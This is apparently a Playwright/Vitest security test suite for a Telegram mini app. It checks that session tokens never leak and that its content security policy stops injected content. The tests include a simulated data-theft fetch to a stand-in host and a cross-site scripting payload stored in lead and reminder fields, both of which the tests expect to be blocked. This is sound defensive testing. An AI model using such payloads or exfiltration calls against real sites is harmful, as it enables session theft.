/** What a stranger to the page could find of a person's session: in storage, addresses, the console, other frames. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { addMorning, startMiniApp } from './mini-app.ts';
import type { MiniApp } from './mini-app.ts';

const MARA = 3701;
let app: MiniApp;
beforeAll(async () => {
  app = await startMiniApp();
  await addMorning(app.database, MARA);
});
afterAll(() => app.stop());

interface Walk {
  readonly page: Page;
  readonly problems: readonly string[];
  /** Bearer tokens the page has sent. */
  readonly tokens: ReadonlySet<string>;
  readonly urls: readonly string[];
  readonly consoleText: readonly string[];
}

/** A walk through every section, with an action and its Undo, and all that can be heard of it. */
async function walk(): Promise<Walk> {
  const tokens = new Set<string>();
  const urls: string[] = [];
  const consoleText: string[] = [];
  const { page, problems } = await app.open(MARA, {
    prepare: async (fresh) => {
      fresh.on('request', (request) => {
        urls.push(request.url());
        const bearer = /^Bearer (.+)$/.exec(request.headers()['authorization'] ?? '')?.[1];
        if (bearer !== undefined) tokens.add(bearer);
      });
      fresh.on('console', (message) => consoleText.push(message.text()));
      await fresh.addInitScript(() => {
        const violations: string[] = [];
        Object.assign(window, { violations });
        document.addEventListener('securitypolicyviolation', (event) => {
          violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`);
        });
      });
    },
  });
  await page.getByRole('article').waitFor();
  // What comes late above a button would move it from under the click.
  await page.waitForLoadState('networkidle');
  await page.getByRole('button', { name: 'Done' }).first().click();
  await page.getByRole('button', { name: 'Undo' }).click();
  for (const section of ['Calendar', 'Leads', 'Insights', 'Today']) {
    await page.getByRole('navigation').getByRole('button', { name: section }).click();
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.waitForLoadState('networkidle');
  }
  return { page, problems, tokens, urls, consoleText };
}

describe('a person’s token', () => {
  test('travels in a header alone: no storage, cookie, address or console has it or the signature', async () => {
    const { page, tokens, urls, consoleText } = await walk();
    expect(tokens.size).toBeGreaterThan(0);
    const kept = await page.evaluate(async () => ({
      local: Object.entries(localStorage),
      session: Object.entries(sessionStorage),
      cookies: document.cookie,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      // Telegram's own script keeps its launch parameters in the tab's storage; what we add is looked at below.
      own: Object.keys(sessionStorage).filter((key) => !key.startsWith('__telegram__')),
    }));
    expect(kept).toMatchObject({ local: [], cookies: '', databases: [], caches: [], own: [] });
    const places = [JSON.stringify(kept), ...urls, page.url(), ...consoleText].join('\n');
    for (const token of tokens) {
      const [, payload = '', signature = ''] = token.split('.');
      expect(places.includes(payload), 'the token’s claims').toBe(false);
      expect(places.includes(signature), 'the token’s signature').toBe(false);
    }
    // The launch data stays behind the hash, which no server sees; no request repeats it in its address.
    expect(
      urls.filter((url) => /hash=|initData|tgWebAppData|access_token|eyJ/.test(url.split('#')[0]!)),
    ).toEqual([]);
  });

  test('goes to the database and to the product’s own routes, and to nobody else', async () => {
    const origins = new Set<string>();
    const { page } = await app.open(MARA, {
      prepare: async (fresh) => {
        fresh.on('request', (request) => origins.add(new URL(request.url()).origin));
        return Promise.resolve();
      },
    });
    await page.getByRole('article').waitFor();
    expect([...origins]).toEqual([app.url]);
  });
});

describe('the page’s policy', () => {
  test('is never broken by the page itself', async () => {
    const { page, problems } = await walk();
    expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
    expect(problems).toEqual([]);
  });

  test('stops what somebody might slip in: script, style, image and request from elsewhere', async () => {
    const { page } = await walk();
    const stopped = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.slippedIn = true';
      document.head.append(script);
      const image = new Image();
      image.src = 'https://elsewhere.test/pixel.png';
      document.body.append(image);
      const beacon = await fetch('https://elsewhere.test/steal', { mode: 'no-cors' }).then(
        () => 'sent',
        () => 'stopped',
      );
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.slippedIn = true');
      document.body.append(button);
      button.click();
      return { beacon, slippedIn: 'slippedIn' in window };
    });
    expect(stopped).toEqual({ beacon: 'stopped', slippedIn: false });
    const broken = () =>
      page.evaluate(() =>
        (window as unknown as { violations: string[] }).violations.map((one) => one.split(' ')[0]),
      );
    await expect
      .poll(broken)
      .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'img-src', 'connect-src']));
  });

  test('lets Telegram’s web clients and nobody else frame the page', async () => {
    const response = await fetch(app.url);
    const policy = response.headers.get('content-security-policy') ?? '';
    const directives = new Map(
      policy.split('; ').map((directive) => {
        const [name = '', ...sources] = directive.split(' ');
        return [name, sources] as const;
      }),
    );
    // 'self' is the sandbox's frame, which the test server allows as the sandbox does.
    expect(directives.get('frame-ancestors')).toEqual(['https://web.telegram.org', "'self'"]);
    expect(directives.get('default-src')).toEqual(["'none'"]);
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('connect-src')).toEqual(["'self'", app.url]);
    expect(policy).not.toMatch(/unsafe-|\*|http:(?!\/\/127)/);
  });
});

describe('what other people wrote', () => {
  test('is shown as text, wherever it stands', async () => {
    const telegramId = MARA + 1;
    await addMorning(app.database, telegramId);
    const hostile = '<img src=x onerror="window.slippedIn = true"><b>bold</b>';
    await app.database.admin.query(`update public.leads set name = $2, company = $2 where telegram_id = $1`, [
      telegramId,
      hostile,
    ]);
    await app.database.admin.query(
      `update public.scheduled_reminders set title = $2, draft_text = $2 where telegram_id = $1`,
      [telegramId, hostile],
    );
    const { page, problems } = await app.open(telegramId);
    await page.getByRole('article').getByText(hostile).first().waitFor();
    await page.getByRole('navigation').getByRole('button', { name: 'Calendar' }).click();
    await page.getByRole('region').getByText(hostile).first().waitFor();
    expect(
      await page.evaluate(() => [
        'slippedIn' in window,
        document.querySelectorAll('main img, main b b').length,
      ]),
    ).toEqual([false, 0]);
    expect(problems).toEqual([]);
  });
});
